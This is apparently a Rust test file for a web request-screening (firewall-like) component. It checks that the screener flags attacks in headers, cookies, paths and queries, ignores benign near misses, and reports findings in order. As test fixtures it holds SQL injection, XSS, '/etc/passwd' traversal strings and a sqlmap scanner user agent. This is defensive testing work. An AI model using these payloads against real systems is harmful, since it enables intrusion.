fn extra_vocabularies() {
    let r = rule(json!({"extra": {
        "files": ["secrets/app.key"],
        "commands": ["frobctl"],
        "cmdlets": ["Invoke-Frob"],
        "sql_functions": ["frob_exec"],
        "scanners": ["FrobScanner"]
    }}));
    let plain = rule(json!({}));
    for (s, id) in [
        ("/srv/secrets/app.key", "traversal.sensitive_file"),
        ("frobctl --all /", "cmdi.command_line"),
        ("Invoke-Frob -Now", "cmdi.powershell"),
        ("1 or frob_exec(1)", "sqli.function_call"),
    ] {
        assert_eq!(
            r.screen_value(encode(s).as_bytes(), ValueKind::Query)
                .map(|(_, i)| i),
            Some(id),
            "{s}"
        );
        assert_eq!(
            plain.screen_value(encode(s).as_bytes(), ValueKind::Query),
            None,
            "{s}"
        );
    }
    let hs = headers(&[(":path", "/a"), ("user-agent", "frobscanner/2")]);
    assert_eq!(
        r.screen_request(&request(&hs)).map(|d| d.rule_id),
        Some("bot.scanner")
    );
    assert_eq!(plain.screen_request(&request(&hs)), None);
    let e = errors(json!({"extra": {"files": ["x"], "verbs": []}}));
    let paths: Vec<&str> = e.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(
        paths,
        vec![
            "policies.p.screening.extra.files[0]",
            "policies.p.screening.extra.verbs"
        ]
    );
}

/// The request head read by name in one pass over the raw map: the first user agent and the
/// first `:path` are the ones read, cookies wherever they are, header names compared as bytes
/// (a name that is not UTF-8 is still screened, located as the replacement character).
#[test]
fn request_head_read_in_one_pass() {
    let all = rule(json!({}));
    let screen = |pairs: &[(&[u8], &[u8])]| {
        let view = RequestView {
            headers: crate::request::leaked_headers(pairs),
            client_ip: None,
            route_policy: None,
            route_name: None,
            virtual_host: None,
        };
        all.screen_request(&view)
            .map(|d| (d.class, d.location.key()))
    };
    type Head<'a> = Vec<(&'a [u8], &'a [u8])>;
    let cases: Vec<(Head, Option<(Class, &str)>)> = vec![
        // Attacks.
        (
            vec![(b":path", b"/a"), (b"x-\xff", b"' or 1=1--")],
            Some((Class::Sqli, "header.___")),
        ),
        (
            vec![(b"user-agent", b"sqlmap/1.7"), (b":path", b"/a")],
            Some((Class::Bot, "user_agent")),
        ),
        (
            vec![(b":path", b"/a/../../etc/passwd"), (b":path", b"/b")],
            Some((Class::Traversal, "path")),
        ),
        (
            vec![
                (b"x-a", b"1"),
                (b"cookie", b"s=<script>"),
                (b":path", b"/a"),
            ],
            Some((Class::Xss, "cookie.s")),
        ),
        // The second user agent is not the bot check's, but is screened as a header.
        (
            vec![
                (b":path", b"/a"),
                (b"user-agent", b"Mozilla/5.0"),
                (b"user-agent", b"x' or 1=1--"),
            ],
            Some((Class::Sqli, "user_agent")),
        ),
        // Near misses: the same shapes, benign.
        (
            vec![(b":path", b"/a"), (b"x-\xff", b"application/json")],
            None,
        ),
        (
            vec![
                (b"user-agent", b"Mozilla/5.0"),
                (b"user-agent", b"sqlmap/1.7"),
            ],
            None,
        ),
        (
            vec![(b":path", b"/b"), (b":path", b"/a/../../etc/passwd")],
            None,
        ),
        (
            vec![(b"x-a", b"1"), (b"cookie", b"s=dark"), (b":path", b"/a")],
            None,
        ),
        (
            vec![
                (b":path", b"/a"),
                (b":x", b"<script>"),
                (b"authorization", b"' or 1=1--"),
            ],
            None,
        ),
    ];
    for (pairs, want) in cases {
        let want = want.map(|(c, k)| (c, k.to_string()));
        assert_eq!(screen(&pairs), want, "{pairs:?}");
    }
}

/// Headers are screened in the one walk of the map that also finds the path and cookies:
/// whichever positions the attacks take, the first one in map order is answered, and only after
/// a finding in the path, query or cookies.
#[test]
fn header_findings_in_map_order() {
    let all = rule(json!({}));
    let n = 12;
    let names: Vec<String> = (0..n).map(|i| format!("x-h{i}")).collect();
    // A value with bytes of interest that passes, an attack, a value that leaves after its scan.
    let benign = "text/plain; q=0.5";
    let attack = "' or 1=1--";
    for first in 0..n {
        for second in [None, Some(n - 1), Some(first + 1)] {
            let mut hs = vec![(":path".to_string(), "/a".to_string())];
            for (i, name) in names.iter().enumerate() {
                let value = if i == first || Some(i) == second {
                    attack
                } else if i % 3 == 2 {
                    "plain-id-123"
                } else {
                    benign
                };
                hs.push((name.clone(), value.to_string()));
                if i % 4 == 1 {
                    hs.push(("authorization".to_string(), attack.to_string()));
                }
            }
            let pairs: Vec<(&str, &str)> =
                hs.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            let map = headers(&pairs);
            let got = all.screen_request(&request(&map)).map(|d| d.location.key());
            assert_eq!(
                got,
                Some(format!("header.x-h{first}")),
                "{first} {second:?}"
            );
        }
    }
    // Benign values only: nothing.
    let pairs: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), benign)).collect();
    assert_eq!(all.screen_request(&request(&headers(&pairs))), None);
    // A header before the path, the query, the cookies: those are answered first.
    let attack_path = "/a/../../etc/passwd";
    for (hs, want) in [
        (vec![("x-a", attack), (":path", attack_path)], "path"),
        (
            vec![("x-a", attack), (":path", "/a?q=<script>alert(1)</script>")],
            "query.q",
        ),
        (
            vec![("x-a", attack), (":path", "/a"), ("cookie", "s=' or 1=1--")],
            "cookie.s",
        ),
        (
            vec![
                ("x-a", attack),
                ("cookie", "s=1"),
                ("x-b", "<script>alert(1)</script>"),
                (":path", "/a"),
            ],
            "header.x-a",
        ),
    ] {
        let map = headers(&hs);
        let got = all.screen_request(&request(&map)).map(|d| d.location.key());
        assert_eq!(got.as_deref(), Some(want), "{hs:?}");
    }
}

/// `screens_header` (names matched by length) agrees with [`NEVER_SCREENED`].
#[test]
fn screened_header_names() {
    let all = rule(json!({}));
    for name in NEVER_SCREENED {
        assert!(!all.screens_header(name.as_bytes()), "{name}");
    }
    for name in ["x-api-key", "authorizations", "cookie2", "user-agent", "a"] {
        assert!(all.screens_header(name.as_bytes()), "{name}");
    }
    assert!(!all.screens_header(b":path"));
    let skipped = rule(json!({"skip": ["header.X-Tenant"]}));
    assert!(!skipped.screens_header(b"x-tenant"));
    assert!(skipped.screens_header(b"x-tenants"));
}

/// The `content-type` values `body_kind` knows without parsing are JSON to the parser too.
#[test]
fn json_media_known_without_parsing_are_json() {
    for ct in crate::payload::VERBATIM_JSON {
        let media = crate::payload::parse_media_type(ct);
        assert!(media.is_some_and(|m| m.is_json()), "{ct:?}");
    }
    let r = rule(json!({}));
    assert_eq!(r.body_kind(b"application/json"), Some(ScreenedBody::Json));
    let no_json = rule(json!({"bodies": ["form"]}));
    assert_eq!(no_json.body_kind(b"application/json"), None);
}
